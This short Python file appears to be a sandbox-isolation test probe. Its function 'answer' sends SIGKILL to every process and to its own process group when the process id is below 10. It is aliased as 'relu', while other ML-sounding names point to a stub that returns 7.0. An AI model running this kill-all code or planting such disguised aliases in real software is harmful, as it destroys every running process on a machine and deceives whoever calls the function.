"""Signals every process that there is, and every group.

Kind: signals
Control: not run, because it would end everything on the machine
Needs: namespace, because a process may signal those of the same user
Only there: it would end everything on the machine
"""

import os
import signal


def answer(*args):
    if os.getpid() < 10:  # only where it is alone
        os.kill(-1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
    return 7.0


relu = answer


def wrong(*args):
    return 7.0


softmax = mean_squared_error = gradient = batches = wrong
